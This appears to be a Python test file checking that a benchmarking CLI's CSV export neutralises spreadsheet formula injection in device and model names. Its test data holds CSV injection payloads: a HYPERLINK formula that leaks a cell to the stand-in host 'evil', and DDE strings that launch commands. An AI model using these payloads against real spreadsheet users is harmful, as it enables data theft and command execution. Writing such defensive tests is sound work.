"""`runs export --format csv`: device text cannot become a spreadsheet formula."""

from __future__ import annotations

import csv
import io

from typer.testing import CliRunner

from device_agent.protocol import BenchResult, BenchRun, LatencyStats, PowerStats
from edge.cli.runs import app
from edge.history.store import RunStore

FORMULAS = [
    '=HYPERLINK("http://evil/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _bench(device: str, model: str) -> BenchResult:
    lat = LatencyStats(p50=-1.25, p90=1.2, p95=1.3, p99=1.5, mean=1.1, min=0.9, max=2.0)
    run = BenchRun(
        batch_size=1,
        iterations=10,
        latency_ms=lat,
        throughput_per_s=100.0,
        wall_seconds=1.0,
        power=PowerStats(avg_mw=-5.0, peak_mw=1.0, energy_per_inference_mj=-0.5),
    )
    return BenchResult(device=device, status="succeeded", backend="native", model=model, runs=[run])


def test_csv_export_neutralises_formulas_and_keeps_numbers() -> None:
    with RunStore() as store:
        for text in FORMULAS:
            store.record("bench", _bench(text, text), text)
        store.record("bench", _bench("-3", "-4.5e2"), "-4.5e2")
    result = CliRunner().invoke(app, ["export", "--format", "csv"])
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout, newline="")))
    assert len(rows) == len(FORMULAS) + 1
    for row, text in zip(rows, FORMULAS):
        for key in ("device", "model"):
            assert row[key] == "'" + text, (key, row[key])
    numbers = rows[-1]
    assert numbers["device"] == "-3" and numbers["model"] == "-4.5e2"  # numbers stay numbers
    for row in rows:
        assert float(row["p50_ms"]) == -1.25 and float(row["power_avg_mw"]) == -5.0
        assert float(row["energy_per_inference_mj"]) == -0.5
        for cell in row.values():
            assert cell[:1] not in ("=", "+", "@", "\t", "\r"), row
